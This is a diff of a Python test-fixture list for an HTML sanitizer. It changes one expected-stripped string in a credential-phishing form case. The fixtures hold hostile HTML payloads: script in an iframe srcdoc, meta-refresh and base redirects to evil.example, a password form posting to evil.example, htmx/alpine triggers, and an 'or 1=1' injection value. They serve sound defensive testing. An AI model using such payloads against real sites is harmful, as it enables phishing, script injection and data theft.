@@ -96,7 +96,7 @@ BODIES = [
     Body("htmx", "<p hx-get='/admin/logout/' data-hx-post='/admin/' hx-trigger=load x-init=q @click=q>t</p>", ("t",), ("hx-get", "data-hx", "x-init", "@click")),
     Body("frames", "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe><object data=//evil.example></object><embed src=//evil.example><p>t</p>", ("t",), ("evil.example", "srcdoc")),
     Body("head", "<meta http-equiv=refresh content='0;url=//evil.example'><base href='//evil.example/'><link rel=stylesheet href=//evil.example><p>q</p>", ("q",), ("evil.example",)),
-    Body("form", "<form action='//evil.example'><input name=password><button formaction=//evil.example>Log in</button></form><p>q</p>", ("q",), ("evil.example", "<input")),
+    Body("form", "<form action='//evil.example'><input name=password><button formaction=//evil.example>Log in</button></form><p>q</p>", ("q",), ("evil.example", "password")),
     Body("figures of nothing", "<figure data-image='999999999'></figure><figure data-image='1 or 1=1'></figure><figure data-image='-1'></figure><p>q</p>", ("q",), ("or 1=1",)),
     Body("left open", "<p>one<b>two<i>three</p><blockquote><ul><li>four", ("one", "four")),
     Body("closed too often", "</p></div></article></section></main></live-page></body></html><p>q", ("q",)),
